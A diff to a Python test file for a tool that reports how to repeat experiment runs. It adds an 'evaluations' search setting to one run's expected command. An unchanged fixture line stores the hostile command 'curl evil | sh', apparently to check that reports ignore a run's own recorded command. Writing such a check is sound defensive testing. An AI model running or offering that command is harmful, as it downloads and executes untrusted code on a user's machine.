@@ -51,7 +51,8 @@ def runs(tmp_path_factory) -> Path:
     write_run(folder / "3", "das.json", {"das": {"skip_num": 3}, "seed": 0})
     problem = {"model": "VLM", "task": "answering", "checkpoint": "/models/big"}
     write_run(folder / "4", "shrink.json", {"macs_saved": 0.2}, problem=problem, command="curl evil | sh")
-    write_run(folder / "5", "compare.json", {"seeds": 2, "searches": {"4": 1}, "skip_nums": [4]})
+    searched = {"searches": {"4": 1}, "skip_nums": [4], "search": {"evaluations": 24}}
+    write_run(folder / "5", "compare.json", {"seeds": 2, **searched})
     return folder
 
 
@@ -73,7 +74,7 @@ def test_report_of_adapt_includes_its_search(runs):
     [
         ("3", "das-adapt das with skip_num=3"),
         ("4", f"das-adapt shrink with checkpoint=/models/big 'mask={str(MASK).replace(' ', '')}'"),  # not its own
-        ("5", "das-adapt compare with seeds=2 'skip_nums=[4]'"),
+        ("5", "das-adapt compare with seeds=2 'skip_nums=[4]' evaluations=24"),
     ],
 )
 def test_report_has_the_command_that_repeats_the_run(runs, run, command):
